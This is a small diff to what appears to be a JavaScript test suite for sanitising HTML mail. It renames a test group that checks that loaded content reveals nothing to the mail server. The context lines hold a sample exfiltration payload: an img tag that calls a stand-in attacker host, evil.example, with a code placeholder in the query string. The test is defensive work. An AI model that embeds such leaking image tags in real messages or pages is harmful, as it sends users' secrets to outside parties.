@@ -159,7 +159,7 @@ describe("in HTML, a placeholder may stand", () => {
   });
 });
 
-describe("what a mail program loads tells its server nothing", () => {
+describe("what a mail program loads reveals nothing to its server", () => {
   const LEAK = "https://evil.example/?{{code}}";
   test.each([
     `<img src="${LEAK}">`,
